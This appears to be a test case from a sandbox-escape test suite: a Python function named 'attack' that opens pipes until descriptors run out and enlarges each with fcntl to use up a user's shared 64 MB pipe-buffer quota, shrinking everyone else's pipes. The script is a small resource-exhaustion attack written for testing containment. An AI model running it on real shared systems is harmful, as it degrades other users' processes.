# Makes pipes as large as they go: a user's pipes share 64 MB, after which everybody's are a page each.
# Mode: escape
# Expects: wrong, raised
import fcntl
import os

HELD = []


def attack():
    got = 0
    try:
        while True:
            HELD.extend(os.pipe())
            for size in (1 << 20, 1 << 18, 1 << 17):
                try:
                    got += fcntl.fcntl(HELD[-1], 1031, size) > 65536
                except PermissionError:
                    pass
    except OSError:
        pass
    for descriptor in HELD:
        os.close(descriptor)
    return f"{got} larger pipes" if got else None
